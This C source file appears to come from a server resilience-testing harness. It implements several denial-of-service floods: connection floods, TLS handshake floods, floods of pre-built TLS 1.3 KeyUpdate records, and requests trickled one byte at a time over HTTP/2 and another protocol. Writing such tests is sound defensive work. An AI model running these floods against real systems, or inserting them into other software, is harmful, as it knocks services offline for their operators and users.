/* Floods below the protocol: connections, TLS, pieces of one byte. */
#include <string.h>

#include <openssl/err.h>

#include "attack.h"

enum { PIECES = 4096, UPDATES = 500 };

static void connects(attacker *a)
{
    while (attacker_goes_on(a)) {
        raw r;
        if (raw_connect(&r, a->wire, 1 + a->nth, a->stop)) {
            atomic_fetch_add(&a->connections, 1);
            raw_close(&r);
        }
    }
}

static void handshakes(attacker *a)
{
    while (attacker_goes_on(a)) {
        raw r;
        if (attacker_open(a, &r))
            raw_close(&r);
    }
}

static void put_beginning(bytes *b, wire w)
{
    if (target_speaks_h2(w))
        h2_put_preface(b, -1);
    else
        sp_put_greeting(b, w);
}

/* Makes KeyUpdates ahead, so that they come as fast as the socket takes them. */
static bool make_key_updates(SSL *tls, int type, bytes *b)
{
    BIO *memory = BIO_new(BIO_s_mem()), *socket = SSL_get_wbio(tls);
    bool made = memory;
    char *data = NULL;

    BIO_up_ref(socket);
    SSL_set0_wbio(tls, memory);
    ERR_clear_error();
    for (size_t i = 0; i < UPDATES && made; i++)
        made = SSL_key_update(tls, type) == 1 && SSL_do_handshake(tls) == 1;
    long len = BIO_get_mem_data(memory, &data);
    bytes_put(b, data, len > 0 ? (size_t)len : 0);
    SSL_set0_wbio(tls, socket);
    ERR_clear_error();
    return made;
}

/* Past the TLS of `r`: the records are made. */
static bool send_records(const raw *r, const bytes *b)
{
    raw plain = {.fd = r->fd, .stop = r->stop, .deaf = true};

    return raw_send(&plain, b->data, b->len) && raw_drop(&(raw){.fd = r->fd, .tls = r->tls, .stop = r->stop});
}

static void update_keys(attacker *a, int type)
{
    bytes b = {0};

    while (attacker_goes_on(a)) {
        raw r;
        if (!attacker_open(a, &r))
            continue;
        b.len = 0;
        put_beginning(&b, a->wire);
        bool goes = raw_send(&r, b.data, b.len);
        while (goes && attacker_goes_on(a)) {
            b.len = 0;
            goes = make_key_updates(r.tls, type, &b) && send_records(&r, &b);
        }
        raw_close(&r);
    }
    bytes_free(&b);
}

static void key_updates(attacker *a)
{
    update_keys(a, SSL_KEY_UPDATE_NOT_REQUESTED);
}

static void asked_key_updates(attacker *a)
{
    update_keys(a, SSL_KEY_UPDATE_REQUESTED);
}

/* Calls of somebody known, a byte a record or a segment. */
static void single_bytes(attacker *a)
{
    static const h2_call call = {.path = PATH_DECODE, .token = TARGET_ATTACKERS_TOKEN};
    static const sp_call frame = {.path = PATH_DECODE, .payload = "\10\1", .len = 2, .token = TARGET_ATTACKERS_TOKEN};
    bytes b = {0};

    while (attacker_goes_on(a)) {
        raw r;
        if (!attacker_open(a, &r))
            continue;
        b.len = 0;
        put_beginning(&b, a->wire);
        for (uint32_t id = 1; b.len < PIECES; id += 2) {
            if (target_speaks_h2(a->wire)) {
                h2_put_call(&b, id, &call, 0);
                h2_put_message(&b, id, "\10\1", 2, false, 1);
            } else {
                sp_put_frame(&b, a->wire, id, &frame, 1);
            }
        }
        bool goes = true;
        for (size_t i = 0; i < b.len && goes; i++)
            goes = raw_send(&r, b.data + i, 1);
        raw_close(&r);
    }
    bytes_free(&b);
}

/* No attack: what it costs the others that the attackers' threads run on the same machine. */
static void computes(attacker *a)
{
    while (attacker_goes_on(a)) {
    }
}

const attack floods_tls[] = {
    {.name = "computes", .wires = ON_TCP, .run = computes},
    {.name = "connects", .wires = ON_SP | ON_H2, .run = connects},
    {.name = "handshakes", .wires = ON_ANY_TLS, .run = handshakes},
    {.name = "key_updates", .wires = ON_ANY_TLS, .run = key_updates},
    {.name = "asked_key_updates", .wires = ON_ANY_TLS, .run = asked_key_updates},
    {.name = "single_bytes", .wires = ON_SP | ON_H2, .run = single_bytes},
    {.name = NULL},
};
